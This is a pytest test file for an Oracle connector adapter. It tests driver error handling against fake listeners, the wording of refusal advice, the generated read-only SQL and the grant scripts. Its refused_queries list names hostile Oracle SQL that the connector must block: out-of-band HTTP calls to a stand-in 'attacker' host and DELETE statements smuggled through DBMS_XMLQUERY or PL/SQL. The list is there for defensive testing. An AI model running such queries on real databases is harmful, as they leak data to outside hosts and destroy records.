"""Oracle at its driver's edge: the real driver against listeners that refuse, hang up or are something else, and the
SQL that would be sent, as SQLAlchemy writes it and another parser reads it."""

from __future__ import annotations

import re
import socket
import ssl
from contextlib import AbstractContextManager
from dataclasses import replace
from pathlib import Path

import oracledb
import pytest
import sqlglot
from sqlalchemy import Connection, Dialect
from sqlalchemy.dialects.oracle import NUMBER
from sqlalchemy.dialects.oracle.oracledb import OracleDialect_oracledb

from kbconnect.adapters.sources import oracle
from kbconnect.adapters.sources.dialect import DialectProvider
from kbconnect.adapters.sources.dialect_errors import Edge
from kbconnect.adapters.sources.dialect_read import DialectReader
from kbconnect.adapters.sources.dialect_values import kind_of_type, value_of
from kbconnect.adapters.sources.oracle_refusals import explain
from kbconnect.core.access import AccessWish, NeededTable
from kbconnect.core.connector import (
    ConnectorDraft,
    ConnectorOptions,
    Dial,
    Extra,
    ProviderInfo,
    Secret,
    StepState,
    TlsMode,
    Verified,
)
from kbconnect.core.errors import (
    AccessDeniedError,
    ColumnMissingError,
    ConnectTimeoutError,
    DatabaseMissingError,
    HostNotFoundError,
    InputError,
    LoginRefusedError,
    PortClosedError,
    SourceConflictError,
    SourceError,
    SourceLostError,
    SourceTimeoutError,
    TableMissingError,
)
from kbconnect.core.model import ColumnInfo, ColumnKind, TableRef, TableSelection
from kbconnect.core.ports import CursorWindow, ReadPlan
from tests.adapters.sources import tds_server, tns_server
from tests.adapters.sources.driver_edge import LOCAL, DriverEdge, told
from tests.adapters.sources.sent_sql import Recorded
from tests.adapters.sources.tds_server import Behaviour, Seen

INFO = ProviderInfo("oracle", "Oracle", "Or", 1521, is_file=False, scheme="oracle", verified=Verified.DRIVER)
DIALECT = oracle.dialect(INFO)


class TestEdge(DriverEdge):
    dialect = DIALECT
    module = "oracledb"
    package = "kbconnect[oracle]"
    kind = DatabaseMissingError
    questions = oracle.QUESTIONS
    refused_queries = (
        "SELECT utl_http.request('http://attacker/') FROM dual",
        "SELECT SYS.DBMS_XMLQUERY.getXml('DELETE FROM t') FROM dual",
        "SELECT httpuritype('http://attacker/').getclob() FROM dual",
        "SELECT * FROM t FOR UPDATE",
        "BEGIN DELETE FROM t; END;",
    )

    def refusing(self, seen: Seen, certificate: Path | None = None) -> Behaviour:
        return tns_server.refusing(12514, seen, certificate)

    def written(self) -> object:
        return written()

    @pytest.mark.parametrize("number", [12514, 12505])
    def test_a_service_the_listener_does_not_know_is_told(self, number: int) -> None:
        seen = Seen()
        by_sid = {"extras": (Extra("connect_by", "sid"),)} if number == 12505 else {}
        with tds_server.serving(tns_server.refusing(number, seen)) as port:
            assert isinstance(self.refusal(self.draft(port, **by_sid)), DatabaseMissingError)
            steps = self.steps_of(self.draft(port, **by_sid))
        # Nobody has signed in yet when the listener looks for the service.
        assert [(name, step.state) for name, step in steps.items()] == [
            ("resolve", StepState.PASSED), ("connect", StepState.PASSED), ("tls", StepState.SKIPPED),
            ("database", StepState.FAILED),
        ]  # fmt: skip
        assert {fact.name: fact.value for fact in steps["connect"].facts}["Listener"] == "Oracle 19"
        assert ("no SID “shop”" if by_sid else "no service “shop”") in steps["database"].detail
        assert "lsnrctl services" in steps["database"].fix
        asked = seen.logins[0].upper()
        assert (b"SID=SHOP" if by_sid else b"SERVICE_NAME=SHOP") in asked
        assert b"PROGRAM=KBCONNECT" in asked

    @pytest.mark.parametrize(
        ("number", "said"),
        [
            (12541, "No listener of Oracle's"), (12516, "takes no further connections"), (12528, "not open"),
            (12660, "Oracle's own network encryption"),
        ],
    )  # fmt: skip
    def test_what_the_listener_refuses_with_is_told(self, number: int, said: str) -> None:
        with tds_server.serving(tns_server.refusing(number, Seen())) as port:
            failed = self.failing(self.draft(port))
        assert (failed.name, said in failed.detail) == ("login", True)

    def test_a_port_that_takes_encrypted_connections_alone_is_told(self) -> None:
        alert = b"\x15\x03\x01\x00\x02\x02\x0a\0"
        with tds_server.serving(tds_server.answering(alert)) as port:
            failed = self.failing(self.draft(port))
        assert (failed.name, "takes encrypted connections alone" in failed.detail) == ("tls", True)


def draft(port: int, **options: object) -> ConnectorDraft:
    chosen = ConnectorOptions(connect_timeout_s=1, **options)  # type: ignore[arg-type]  # by field
    return ConnectorDraft("Shop", "oracle", LOCAL, port, "reader", "shop", chosen)


def test_the_driver_is_told_where_and_how() -> None:
    told = oracle.connect_arguments(replace(draft(2484, tls=TlsMode.VERIFY_FULL), host="db.example"), INFO)
    assert (told["host"], told["port"], told["protocol"], told["service_name"]) == ("db.example", 2484, "tcps", "shop")
    context = told["ssl_context"]
    assert isinstance(context, ssl.SSLContext)
    assert context.check_hostname
    plain = oracle.connect_arguments(draft(1521), INFO)
    assert plain["protocol"] == "tcp"
    assert "ssl_context" not in plain
    tunnelled = oracle.connect_arguments(replace(draft(1521), dial=Dial("127.0.0.1", 4711)), INFO)
    assert tunnelled["port"] == 4711


def test_certificates_that_can_not_be_read_are_named(tmp_path: Path) -> None:
    for options in ({"tls_ca_file": str(tmp_path / "no.pem")}, {"tls_certificate_file": str(tmp_path / "no.pem")}):
        with pytest.raises(InputError, match="can't be read"):
            oracle.connect_arguments(draft(1, tls=TlsMode.VERIFY_FULL, **options), INFO)
    wallet = draft(1, tls=TlsMode.VERIFY_CA, extras=(Extra("wallet_location", str(tmp_path)),))
    with pytest.raises(InputError, match="can't be read"):
        oracle.connect_arguments(wallet, INFO)


class _Said:
    """What the driver hangs on its errors."""

    def __init__(self, full_code: str, message: str = "") -> None:
        self.full_code = full_code
        self.message = message


@pytest.mark.parametrize(
    ("code", "message", "kind"),
    [
        ("ORA-01017", "", LoginRefusedError), ("ORA-12514", "", DatabaseMissingError),
        ("ORA-00942", "", TableMissingError), ("ORA-00904", "", ColumnMissingError),
        ("ORA-01031", "", AccessDeniedError), ("ORA-12541", "", PortClosedError),
        ("ORA-12170", "", ConnectTimeoutError), ("ORA-01555", "", SourceConflictError),
        ("ORA-03113", "", SourceLostError), ("ORA-01013", "", SourceTimeoutError),
        ("DPY-6000", "DPY-6000: Listener refused connection. (Similar to ORA-12528)", PortClosedError),
        ("DPY-6005", "DPY-6005: no.\nDPY-6000: Listener refused. (Similar to ORA-12541)", PortClosedError),
        ("DPY-6005", "DPY-6005: cannot connect to database (CONNECTION_ID=x).\nDPY-3010: not supported", SourceError),
        ("DPY-6005", "DPY-6005: cannot connect to database.\n[Errno 111] Connection refused", PortClosedError),
    ],
)  # fmt: skip
def test_codes_of_the_server_have_meanings(code: str, message: str, kind: type[SourceError]) -> None:
    with pytest.raises(kind), Edge(DIALECT, (oracledb.Error,)).translated():
        raise oracledb.DatabaseError(_Said(code, message))


@pytest.mark.parametrize(
    ("code", "said", "fix"),
    [
        ("ORA-01017", "refused the login of reader", "WHERE username = 'READER'"),
        ("ORA-28000", "locked", "ALTER USER READER ACCOUNT UNLOCK;"),
        ("ORA-28001", "expired", 'ALTER USER READER IDENTIFIED BY "…";'),
        ("ORA-01045", "may not sign in", "GRANT CREATE SESSION TO READER;"),
        ("ORA-12514", "no service “shop”", "ALTER SYSTEM REGISTER;"),
        ("ORA-12541", "No listener", "lsnrctl start"),
        ("ORA-01034", "not open", "v$instance"),
        ("ORA-12519", "no further connections", "v$resource_limit"),
        ("DPY-3001", "network encryption", "network_service_banner"),
        ("DPY-3010", "older than Oracle 12.1", ""),
        ("DPY-3015", "form of Oracle 10g", "password_versions"),
        ("DPY-4001", "none was given", ""),
        ("DPY-4011", "broke off the connection", "TCP.INVITED_NODES"),
        ("ORA-28009", "SYSDBA", ""),
    ],
)
def test_a_refusal_has_its_own_words(code: str, said: str, fix: str) -> None:
    error = explain(draft(1), code, f"words of {code}")
    assert said in told(error, code)
    assert error is not None
    assert fix in error.fix
    assert explain(draft(1), "ORA-00000", "") is None


@pytest.mark.parametrize(
    ("cause", "kind"),
    [
        (socket.gaierror(-2, "Name or service not known"), HostNotFoundError),
        (TimeoutError("timed out"), ConnectTimeoutError),
        (ConnectionRefusedError(111, "Connection refused"), PortClosedError),
    ],
)
def test_a_node_the_listener_sends_on_to_may_be_what_can_not_be_reached(
    cause: OSError, kind: type[SourceError]
) -> None:
    error = oracledb.OperationalError(_Said("DPY-6005", "DPY-6005: cannot connect to database"))
    error.__cause__ = cause
    assert DIALECT.explain is not None
    told_error = DIALECT.explain(draft(1), error)
    assert isinstance(told_error, kind)
    assert "its listener sends on to" in told_error.message
    assert "cluster" in told_error.hint


def test_a_host_nobody_knows_is_told() -> None:
    unknown = replace(draft(1), host="no-such-host.invalid")
    with pytest.raises(HostNotFoundError), DialectProvider(DIALECT).open(unknown, Secret("x")):
        pass


def test_names_in_lines_to_copy_are_quoted() -> None:
    error = explain(replace(draft(1), username="o'Neil x"), "ORA-28000", "")
    login = explain(replace(draft(1), username="o'Neil x"), "ORA-01017", "")
    assert error is not None
    assert login is not None
    assert error.fix == 'ALTER USER "o\'Neil x" ACCOUNT UNLOCK;'
    assert "WHERE username = 'o''Neil x'" in login.fix


# --------------------------------------------------------------------------------------------------- SQL

TABLE = TableRef("SHOP", "Order")
COLUMNS = {
    "ID": ColumnInfo("ID", "number", ColumnKind.INTEGER, nullable=False, primary_key=1),
    "CODE": ColumnInfo("CODE", "varchar2(9)", ColumnKind.TEXT),
    "BODY": ColumnInfo("BODY", "clob", ColumnKind.TEXT),
    "CHANGED": ColumnInfo("CHANGED", "timestamp", ColumnKind.TIMESTAMP),
}


def no_other() -> AbstractContextManager[Connection]:
    raise AssertionError


def written() -> Dialect:
    """How SQLAlchemy writes for this driver."""
    return OracleDialect_oracledb()  # type: ignore[no-untyped-call]  # untyped there


def sent(plan: ReadPlan, use: str, *arguments: object) -> list[str]:
    recorded = Recorded(written())
    reader = DialectReader(recorded, Edge(DIALECT), plan, COLUMNS, no_other)  # type: ignore[arg-type]  # records
    list(getattr(reader, use)(*arguments))
    return recorded.statements


def test_the_statements_are_those_of_oracle() -> None:
    by_id = ReadPlan(TableSelection(TABLE), ("ID",), ("BODY",), (), cursor_column="CHANGED")
    by_code = ReadPlan(TableSelection(TABLE), ("CODE",), ("BODY",), ())
    statements = [
        *sent(by_id, "rows", CursorWindow("time:2024-01-01T00:00:00", 5)),
        *sent(by_id, "rows_by_key", [("1",), ("2",)]),
        *sent(by_code, "keys"),
    ]
    assert all('FROM "SHOP"."Order" q' in statement for statement in statements)
    assert 'q."CHANGED" >= :cursor_bound OR q."CHANGED" IS NULL' in statements[0]
    assert 'q."ID" IN (:k0, :k1)' in statements[1]
    assert "ORDER BY NLSSORT(q.\"CODE\", 'NLS_SORT=BINARY')" in statements[2]
    for statement in statements:
        sqlglot.parse_one(re.sub(r":\w+", "1", statement), read="oracle")
    assert DIALECT.begin == ("SET TRANSACTION READ ONLY",)


def test_the_script_grants_reading_of_what_is_needed() -> None:
    wish = AccessWish("KB_READER", (NeededTable(TABLE, ("ID",)), NeededTable(TableRef("", "B"))))
    made = oracle.script(Recorded(written(), answer="SHOP"), wish)  # type: ignore[arg-type]  # records
    assert 'GRANT READ ON "SHOP"."Order" TO "KB_READER";' in made.make
    assert 'GRANT READ ON "SHOP"."B" TO "KB_READER";' in made.make
    assert "grant a view" in made.notes[0]


def test_the_network_is_told_as_the_server_sees_it() -> None:
    connector = ConnectorDraft("x", "oracle", "db.example", None, "reader", "shop")
    advice = oracle.network(Recorded(written(), answer="2001:db8::7"), connector)  # type: ignore[arg-type]  # records
    assert advice.firewall.splitlines()[0] == "ufw allow proto tcp from 2001:db8::7 to any port 1521"
    assert any("add 2001:db8::7 to TCP.INVITED_NODES" in note for note in advice.notes)
    nowhere = oracle.network(Recorded(written(), answer=None), connector)  # type: ignore[arg-type]  # records
    assert (nowhere.address, nowhere.firewall, nowhere.notes) == ("", "", ())
    assert DIALECT.network is oracle.network


def test_lines_that_let_this_account_read_name_the_tables() -> None:
    grants = DIALECT.grants
    assert grants is not None
    connection = Recorded(written(), answer="READER")
    assert grants(connection, [TABLE]) == 'GRANT READ ON "SHOP"."Order" TO "READER";'  # type: ignore[arg-type]  # records
    assert 'TO "READER";' in grants(connection, [])  # type: ignore[arg-type]  # records


@pytest.mark.parametrize(
    ("precision", "scale", "kind"),
    [(10, 0, ColumnKind.INTEGER), (10, 2, ColumnKind.NUMBER), (None, None, ColumnKind.NUMBER)],
)
def test_the_one_type_of_numbers_is_two_kinds(precision: int | None, scale: int | None, kind: ColumnKind) -> None:
    assert kind_of_type(NUMBER(precision, scale)) is kind  # type: ignore[no-untyped-call]  # untyped there
    assert value_of(kind, "7") == 7
